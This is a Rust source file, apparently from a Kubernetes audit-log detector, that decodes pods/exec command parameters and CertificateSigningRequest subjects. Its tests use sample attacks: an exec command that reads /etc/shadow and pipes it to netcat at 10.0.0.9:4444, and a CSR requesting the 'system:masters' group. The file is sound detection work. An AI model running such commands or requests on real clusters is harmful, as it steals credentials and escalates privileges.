//! Values the event holds only in encoded form: the command of a `pods/exec` request
//! (URL-encoded `command=` parameters of its `requestURI`) and the subject a
//! CertificateSigningRequest asks for (a DER structure, base64 inside PEM inside base64 in
//! `requestObject.spec.request`). `EventView` decodes them at most once per event.

use super::tree::Json;

/// The command of an exec request: every `command=` query parameter, decoded, joined by
/// spaces (`kubectl exec pod -- sh -c 'cat /etc/shadow'` gives `sh -c cat /etc/shadow`).
pub fn exec_command(request_uri: &str) -> Option<String> {
    let (_, query) = request_uri.split_once('?')?;
    let mut command: Option<String> = None;
    for (key, value) in form_urlencoded::parse(query.as_bytes()) {
        if key == "command" {
            match &mut command {
                Some(c) => {
                    c.push(' ');
                    c.push_str(&value);
                }
                None => command = Some(value.into_owned()),
            }
        }
    }
    command
}

/// The subject a CSR object requests: common names and organizations.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct CsrSubject {
    pub common_names: Vec<String>,
    pub organizations: Vec<String>,
}

/// Reads the subject out of a CertificateSigningRequest object (`spec.request`). None when the
/// object has no request or it does not decode: a rule on these fields then does not match.
pub fn csr_subject(object: &Json) -> Option<CsrSubject> {
    use base64::Engine;
    use x509_parser::prelude::FromDer;
    let encoded = object.get("spec")?.get("request")?.as_str()?;
    let pem_text = base64::engine::general_purpose::STANDARD
        .decode(encoded.trim())
        .ok()?;
    let (_, pem) = x509_parser::pem::parse_x509_pem(&pem_text).ok()?;
    let (_, csr) =
        x509_parser::certification_request::X509CertificationRequest::from_der(&pem.contents)
            .ok()?;
    let subject = &csr.certification_request_info.subject;
    let common_names = subject
        .iter_common_name()
        .filter_map(|a| a.as_str().ok().map(str::to_owned))
        .collect();
    let organizations = subject
        .iter_organization()
        .filter_map(|a| a.as_str().ok().map(str::to_owned))
        .collect();
    Some(CsrSubject {
        common_names,
        organizations,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exec_commands_are_decoded_and_joined() {
        let uri = "/api/v1/namespaces/shop/pods/web-1/exec?command=sh&command=-c&command=cat+%2Fetc%2Fshadow%20%7C%20nc%2010.0.0.9%204444&container=app&stdin=true";
        assert_eq!(
            exec_command(uri).as_deref(),
            Some("sh -c cat /etc/shadow | nc 10.0.0.9 4444")
        );
        assert_eq!(
            exec_command("/api/v1/namespaces/shop/pods/web-1/exec?container=app"),
            None
        );
        assert_eq!(
            exec_command("/api/v1/namespaces/shop/pods/web-1/exec"),
            None
        );
    }

    #[test]
    fn csr_subjects_are_read_from_the_request() {
        use base64::Engine;
        let key = rcgen::KeyPair::generate().unwrap();
        let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
        params.distinguished_name = rcgen::DistinguishedName::new();
        params
            .distinguished_name
            .push(rcgen::DnType::CommonName, "mallory");
        params
            .distinguished_name
            .push(rcgen::DnType::OrganizationName, "system:masters");
        let pem = params.serialize_request(&key).unwrap().pem().unwrap();
        let request = base64::engine::general_purpose::STANDARD.encode(pem);
        let text = serde_json::json!({"spec": {"request": request}}).to_string();
        let object = Json::parse(&text).unwrap();
        let subject = csr_subject(&object).expect("decodes");
        assert_eq!(subject.common_names, ["mallory"]);
        assert_eq!(subject.organizations, ["system:masters"]);
        assert_eq!(
            csr_subject(&Json::parse(r#"{"spec": {"request": "bm90IGEgcGVt"}}"#).unwrap()),
            None
        );
        assert_eq!(csr_subject(&Json::parse(r#"{"spec": {}}"#).unwrap()), None);
    }
}
